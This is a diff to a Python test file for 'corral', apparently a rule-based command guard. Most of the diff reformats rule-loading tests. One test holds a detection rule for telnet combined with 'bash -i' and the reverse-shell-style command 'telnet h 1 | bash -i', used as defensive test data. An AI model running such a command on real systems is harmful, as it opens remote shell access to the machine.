@@ -6,6 +6,7 @@ from pathlib import Path
 
 import pytest
 
+from corral import Guard
 from corral.rules.loader import load_rules
 from corral.rules.registry import RULE_FILES, library_dir
 from corral.util.yamlfile import SourceError
@@ -47,7 +48,10 @@ def test_packaged_library_loads_and_registry_is_complete() -> None:
 
 
 def test_valid_rule_loads(tmp_path: Path) -> None:
-    load(tmp_path, RULE.format(id="CR-TST-001", when="{command: {program: ['@things'], option: [-R]}}"))
+    load(
+        tmp_path,
+        RULE.format(id="CR-TST-001", when="{command: {program: ['@things'], option: [-R]}}"),
+    )
 
 
 def test_duplicate_id_names_both_places(tmp_path: Path) -> None:
@@ -69,7 +73,9 @@ def test_duplicate_id_names_both_places(tmp_path: Path) -> None:
         ("CR-TST-001", "{target: {port: ['http']}}", 11, "ports are integers"),
     ],
 )
-def test_bad_rules_point_at_the_line(tmp_path: Path, rule_id: str, when: str, line: int, words: str) -> None:
+def test_bad_rules_point_at_the_line(
+    tmp_path: Path, rule_id: str, when: str, line: int, words: str
+) -> None:
     with pytest.raises(SourceError) as info:
         load(tmp_path, RULE.format(id=rule_id, when=when))
     assert words in str(info.value)
@@ -78,17 +84,19 @@ def test_bad_rules_point_at_the_line(tmp_path: Path, rule_id: str, when: str, li
 
 
 def test_missing_examples_is_an_error(tmp_path: Path) -> None:
-    body = RULE.format(id="CR-TST-001", when="{kind: [exec]}").replace('      not_match: ["ls"]\n', "")
+    body = RULE.format(id="CR-TST-001", when="{kind: [exec]}").replace(
+        '      not_match: ["ls"]\n', ""
+    )
     with pytest.raises(SourceError, match="not_match"):
         load(tmp_path, body)
 
 
 def test_all_of_two_programs_is_indexed_under_either(tmp_path: Path) -> None:
-    """A rule needing two different programs must still be tried (regression: index intersection)."""
-    from corral import Guard
-
+    """A rule needing two different programs must still be tried (regression: intersection)."""
     when = "{all: [{command: {program: [telnet]}}, {command: {program: [bash], option: [-i]}}]}"
     folder = library(tmp_path, RULE.format(id="CR-TST-002", when=when))
     rules = load_rules(folder, files=["r0.yaml"])
-    decision = Guard("permissive", rules=rules).decide({"kind": "exec", "command": "telnet h 1 | bash -i"})
+    decision = Guard("permissive", rules=rules).decide(
+        {"kind": "exec", "command": "telnet h 1 | bash -i"}
+    )
     assert "CR-TST-002" in {r.id for r in decision.rules}
